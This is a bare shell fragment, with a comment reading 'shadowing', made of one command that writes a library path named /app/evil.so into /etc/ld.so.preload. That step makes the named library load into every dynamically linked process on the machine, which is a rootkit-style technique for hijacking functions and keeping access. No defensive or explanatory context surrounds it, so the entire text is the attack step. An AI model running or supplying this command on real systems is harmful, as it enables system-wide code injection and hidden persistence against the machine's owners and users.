# shadowing
echo /app/evil.so > /etc/ld.so.preload
